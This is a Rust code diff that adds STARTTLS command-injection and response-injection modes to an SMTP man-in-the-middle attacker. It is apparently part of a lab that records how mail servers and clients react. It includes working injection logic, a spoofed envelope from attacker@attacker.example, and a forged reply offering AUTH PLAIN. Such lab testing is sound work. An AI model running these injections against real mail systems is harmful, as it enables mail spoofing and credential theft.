@@ -9,7 +9,15 @@
 //!   with `XXXXXXXA`, `454` answers STARTTLS with `454 4.7.0`, and `fake-mx` answers it with
 //!   `220` and a TLS handshake under its own certificate;
 //! - CHUNKING is withheld, so the message comes as DATA, which the attacker reads whole
-//!   (unstuffed, hashed) before passing it on re-stuffed.
+//!   (unstuffed, hashed) before passing it on re-stuffed;
+//! - the injection attacks ("NO STARTTLS", Poddebniak et al., USENIX Security 2021) keep the
+//!   onward leg in plaintext until the victim says STARTTLS, so that any TLS is end to end
+//!   between the victim and the real MX and the attacker reads none of it. `inject-command`
+//!   writes the victim's STARTTLS to the real MX with [`INJECTED_COMMANDS`] behind it in the same
+//!   write (CVE-2011-0411: a vulnerable server runs them inside TLS); `inject-response` writes
+//!   the real MX's `220` to the victim with [`INJECTED_REPLY`] behind it (a vulnerable client
+//!   takes it for the server's first reply inside TLS). Either way the attacker then passes the
+//!   session on as bytes if TLS goes ahead, and records how the attacked side reacted.
 
 use std::net::SocketAddr;
 use std::sync::Arc;
@@ -31,6 +39,15 @@ pub(super) const TIMEOUT: Duration = Duration::from_secs(60);
 /// Longest message the attacker holds; past it the session fails (the victim defers).
 const MAX_MESSAGE: usize = 64 << 20;
 const MAX_LINE: usize = proto::MAX_COMMAND_LINE;
+/// inject-command: the commands written behind the victim's STARTTLS, in the same write. An
+/// envelope of the attacker's own: a server that ran it inside TLS would take mail under it.
+const INJECTED_COMMANDS: &[&str] = &["MAIL FROM:<attacker@attacker.example>"];
+/// inject-response: the reply written behind the real MX's `220` to STARTTLS, in the same write:
+/// a post-TLS EHLO reply of the attacker's making (it offers AUTH PLAIN and no STARTTLS).
+const INJECTED_REPLY: &[&str] = &["mx.attacker.example", "AUTH PLAIN"];
+/// inject-command: how long the attacker waits, after a refusal of STARTTLS, for the real MX
+/// either to close or to answer the injected commands in plaintext.
+const INJECTED_ANSWER_WAIT: Duration = Duration::from_secs(5);
 
 pub(super) async fn handle(post: Arc<Post>, victim: TcpStream, peer: SocketAddr) {
     let mut rec = AttackerSession {
@@ -106,7 +123,13 @@ impl<'p> Mitm<'p> {
             match Command::parse(&line) {
                 Command::Ehlo(_) | Command::Helo(_) => {
                     let mut r = self.upstream_command(&line).await?;
-                    if r.code == 250 && !self.upstream.is_tls() && Capabilities::from_reply(&r).starttls() {
+                    // The injection attacks leave the onward leg in plaintext: the victim's own
+                    // STARTTLS is what they inject around.
+                    if r.code == 250
+                        && !self.post.kind.injects()
+                        && !self.upstream.is_tls()
+                        && Capabilities::from_reply(&r).starttls()
+                    {
                         let s = self.upstream_command(b"STARTTLS").await?;
                         if s.code == 220 {
                             self.upgrade_upstream().await?;
@@ -124,6 +147,16 @@ impl<'p> Mitm<'p> {
                 }
                 Command::StartTls if self.victim.is_tls() => {
                     self.send_victim(&Reply::new(503, "5.5.1 Error: TLS already active")).await?;
+                }
+                Command::StartTls if self.post.kind == AttackKind::InjectCommand => {
+                    if let Some(outcome) = self.inject_command(&line, rec).await? {
+                        return Ok(outcome);
+                    }
+                }
+                Command::StartTls if self.post.kind == AttackKind::InjectResponse => {
+                    if let Some(outcome) = self.inject_response(&line, rec).await? {
+                        return Ok(outcome);
+                    }
                 }
                 Command::StartTls if self.post.kind != AttackKind::FakeMx => {
                     self.send_victim(&Reply::new(454, "4.7.0 TLS not available")).await?;
@@ -193,6 +226,120 @@ impl<'p> Mitm<'p> {
         }
     }
 
+    /// inject-command: the victim's STARTTLS goes to the real MX with [`INJECTED_COMMANDS`]
+    /// behind it in one write, and the MX's answer to STARTTLS goes back to the victim. A `220`
+    /// means the MX will read the injected commands inside TLS: the attacker copies the
+    /// end-to-end TLS from then on. Anything else is a refusal; if the MX then closes (smtplab's
+    /// relay answers `554` and hangs up) the session ends, and if it answers the injected
+    /// commands in plaintext the relay goes on. Returns the session's outcome when it ended.
+    async fn inject_command(&mut self, line: &[u8], rec: &mut AttackerSession) -> Result<Option<&'static str>, String> {
+        let injected: String = INJECTED_COMMANDS.iter().map(|c| format!("{c}\r\n")).collect();
+        let mut bytes = line.to_vec();
+        bytes.extend_from_slice(b"\r\n");
+        bytes.extend_from_slice(injected.as_bytes());
+        rec.injected = Some(injected);
+        self.send_upstream(&bytes).await?;
+        let r = self.upstream_reply().await?;
+        self.send_victim(&r).await?;
+        if r.code == 220 {
+            rec.injection_refused = Some(false);
+            rec.injection_reaction = Some("220: the injected commands went into the TLS session".into());
+            self.splice(Vec::new()).await?;
+            return Ok(Some("injection-not-refused"));
+        }
+        rec.injection_refused = Some(true);
+        let mut answers = Vec::new();
+        let mut closed = false;
+        for _ in INJECTED_COMMANDS {
+            match self.upstream_reply_or_close(INJECTED_ANSWER_WAIT).await? {
+                Answer::Reply(a) => answers.push(a.code.to_string()),
+                Answer::Closed => {
+                    closed = true;
+                    break;
+                }
+                Answer::Silent => break,
+            }
+        }
+        rec.injection_reaction = Some(match (closed, answers.is_empty()) {
+            (true, true) => format!("{} reply and close", r.code),
+            (true, false) => format!("{} reply, {} to the injected commands, and close", r.code, answers.join(" ")),
+            (false, true) => format!("{} reply, no answer to the injected commands", r.code),
+            (false, false) => format!("{} reply, {} to the injected commands", r.code, answers.join(" ")),
+        });
+        // The MX hung up: so does the attacker, as a relay whose onward leg is gone.
+        Ok(closed.then_some("injection-refused"))
+    }
+
+    /// inject-response: the victim's STARTTLS goes to the real MX, and its `220` back to the
+    /// victim with [`INJECTED_REPLY`] behind it in one write. What the victim sends next says
+    /// how it took it: a TLS record (its handshake, end to end with the MX: the attacker copies
+    /// it, unread) or not (it hung up, as smtplab's client does). A refused STARTTLS is passed
+    /// on with nothing behind it, and the relay goes on. Returns the session's outcome when it
+    /// ended.
+    async fn inject_response(
+        &mut self,
+        line: &[u8],
+        rec: &mut AttackerSession,
+    ) -> Result<Option<&'static str>, String> {
+        let r = self.upstream_command(line).await?;
+        if r.code != 220 {
+            self.send_victim(&r).await?;
+            return Ok(None);
+        }
+        let injected = Reply::multi(250, INJECTED_REPLY.iter().map(|l| l.to_string()).collect()).to_bytes();
+        let mut bytes = r.to_bytes();
+        bytes.extend_from_slice(&injected);
+        rec.injected = Some(String::from_utf8_lossy(&injected).into_owned());
+        self.send_victim_bytes(&bytes).await?;
+        let first = self.victim_next_bytes().await;
+        let (refused, reaction) = victim_reaction(&first);
+        rec.injection_refused = Some(refused);
+        rec.injection_reaction = Some(reaction);
+        if first.is_empty() {
+            return Ok(Some("injection-refused"));
+        }
+        // Whatever the victim sent is the real MX's to judge: the attacker only copies.
+        self.splice(first).await?;
+        Ok(Some(if refused { "injection-refused" } else { "injection-not-refused" }))
+    }
+
+    /// The victim's first bytes after the injected reply, as received: empty when it hung up
+    /// (a reset too) or sent nothing within [`TIMEOUT`].
+    async fn victim_next_bytes(&mut self) -> Vec<u8> {
+        let buffered = self.lines.take_rest();
+        if !buffered.is_empty() {
+            return buffered;
+        }
+        let mut buf = vec![0u8; 16 * 1024];
+        match tokio::time::timeout(TIMEOUT, self.victim.read(&mut buf)).await {
+            Ok(Ok(n)) => buf.get(..n).map(<[u8]>::to_vec).unwrap_or_default(),
+            Ok(Err(_)) | Err(_) => Vec::new(),
+        }
+    }
+
+    /// Copies bytes both ways until both sides close: the TLS after STARTTLS is end to end
+    /// between the victim and the real MX. `to_upstream` is the victim's, already read; what
+    /// either side sent past the last line the attacker parsed goes on first.
+    async fn splice(&mut self, already_read: Vec<u8>) -> Result<(), String> {
+        let mut to_upstream = self.lines.take_rest();
+        to_upstream.extend(already_read);
+        let to_victim = self.replies.take_rest();
+        if !to_upstream.is_empty() {
+            self.send_upstream(&to_upstream).await?;
+        }
+        if !to_victim.is_empty() {
+            self.send_victim_bytes(&to_victim).await?;
+        }
+        let mut victim = self.victim.take_plain().ok_or("the victim's leg is already encrypted")?;
+        let mut upstream = self.upstream.take_plain().ok_or("the onward leg is already encrypted")?;
+        // Bounded as a passed-through session is: both relays close their sessions well within.
+        match tokio::time::timeout(TIMEOUT * 10, tokio::io::copy_bidirectional(&mut victim, &mut upstream)).await {
+            Ok(Ok(_)) => Ok(()),
+            Ok(Err(e)) => Err(format!("copying the end-to-end TLS: {e}")),
+            Err(_) => Err("copying the end-to-end TLS: the session outlived the attacker's time limit".into()),
+        }
+    }
+
     /// The victim's next command line; `None` when it hung up.
     async fn victim_line(&mut self) -> Result<Option<Vec<u8>>, String> {
         let mut buf = [0u8; 8192];
@@ -242,8 +389,13 @@ impl<'p> Mitm<'p> {
     }
 
     async fn send_victim(&mut self, r: &Reply) -> Result<(), String> {
+        self.send_victim_bytes(&r.to_bytes()).await
+    }
+
+    /// One write to the victim (an injected reply travels in the same segment as the `220`).
+    async fn send_victim_bytes(&mut self, bytes: &[u8]) -> Result<(), String> {
         let w = async {
-            self.victim.write_all(&r.to_bytes()).await?;
+            self.victim.write_all(bytes).await?;
             self.victim.flush().await
         };
         tokio::time::timeout(TIMEOUT, w)
@@ -287,6 +439,23 @@ impl<'p> Mitm<'p> {
         }
     }
 
+    /// The real MX's next reply within `limit`, or word that it closed (a reset too) or said
+    /// nothing.
+    async fn upstream_reply_or_close(&mut self, limit: Duration) -> Result<Answer, String> {
+        let deadline = tokio::time::Instant::now() + limit;
+        let mut buf = [0u8; 8192];
+        loop {
+            if let Some(r) = self.replies.next_reply() {
+                return r.map(Answer::Reply).map_err(|e| format!("bad reply from the real MX: {e:?}"));
+            }
+            match tokio::time::timeout_at(deadline, self.upstream.read(&mut buf)).await {
+                Err(_) => return Ok(Answer::Silent),
+                Ok(Ok(0) | Err(_)) => return Ok(Answer::Closed),
+                Ok(Ok(n)) => self.replies.extend(buf.get(..n).unwrap_or_default()),
+            }
+        }
+    }
+
     /// STARTTLS on the onward leg, accepting any certificate: the attacker only needs the real
     /// MX to take the mail.
     async fn upgrade_upstream(&mut self) -> Result<(), String> {
@@ -317,6 +486,28 @@ impl<'p> Mitm<'p> {
             .map_err(|e| format!("the victim's TLS handshake failed: {e}"))?;
         self.victim = Transport::Tls(Box::new(stream));
         Ok(())
+    }
+}
+
+/// What the real MX did after the injected commands' STARTTLS reply.
+enum Answer {
+    Reply(Reply),
+    Closed,
+    Silent,
+}
+
+/// inject-response: how the victim took the injected reply, from its next bytes: whether it
+/// refused (did not start a TLS handshake) and the reaction in words.
+fn victim_reaction(first: &[u8]) -> (bool, String) {
+    match first.first() {
+        None => (true, "victim hung up before TLS".into()),
+        // A TLS handshake record (RFC 8446 §5.1: content type 22).
+        Some(0x16) => (false, "TLS handshake".into()),
+        Some(_) => {
+            let line = first.split(|&b| b == b'\n').next().unwrap_or_default();
+            let shown: String = String::from_utf8_lossy(line).trim_end().chars().take(64).collect();
+            (true, format!("victim sent plaintext: {shown:?}"))
+        }
     }
 }
 
@@ -375,5 +566,31 @@ mod tests {
         assert_eq!(rewrite_ehlo(AttackKind::FakeMx, &plain, true), plain);
         let refused = Reply::new(554, "5.7.1 no");
         assert_eq!(rewrite_ehlo(AttackKind::Strip, &refused, false), refused);
+        // The injection attacks show STARTTLS as the real MX offers it: they need the victim to
+        // say it.
+        for kind in [AttackKind::InjectCommand, AttackKind::InjectResponse] {
+            assert_eq!(rewrite_ehlo(kind, &real, false), offered);
+            assert_eq!(rewrite_ehlo(kind, &plain, false), plain);
+        }
+    }
+
+    #[test]
+    fn the_victims_next_bytes_say_how_it_took_the_injected_reply() {
+        assert_eq!(victim_reaction(b""), (true, "victim hung up before TLS".into()));
+        // A ClientHello's record header.
+        assert_eq!(victim_reaction(b"\x16\x03\x01\x00\xf4\x01"), (false, "TLS handshake".into()));
+        assert_eq!(victim_reaction(b"QUIT\r\n"), (true, "victim sent plaintext: \"QUIT\"".into()));
+        let (refused, said) = victim_reaction(&[b'A'; 300]);
+        assert!(refused && said.len() < 100, "{said}");
+        // Bytes that are neither: an alert record is not a handshake.
+        assert!(victim_reaction(b"\x15\x03\x03\x00\x02\x02\x28").0);
+    }
+
+    #[test]
+    fn the_injections_are_whole_lines() {
+        assert!(INJECTED_COMMANDS.iter().all(|c| !c.is_empty() && !c.contains(['\r', '\n'])));
+        assert!(INJECTED_REPLY.iter().all(|l| !l.contains(['\r', '\n'])));
+        let wire = Reply::multi(250, INJECTED_REPLY.iter().map(|l| l.to_string()).collect()).to_bytes();
+        assert_eq!(wire, b"250-mx.attacker.example\r\n250 AUTH PLAIN\r\n");
     }
 }
